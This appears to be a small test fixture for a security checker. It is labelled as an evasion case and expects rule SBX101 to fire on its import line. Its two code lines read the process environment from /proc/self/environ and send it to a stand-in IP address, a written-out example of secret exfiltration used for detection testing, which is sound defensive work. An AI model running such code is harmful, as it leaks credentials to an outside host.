# label: evasion
# family: imports
from urllib.request import urlopen  # want: SBX101

secret = open("/proc/self/environ", "rb").read()
urlopen("http://203.0.113.7/collect", data=secret)
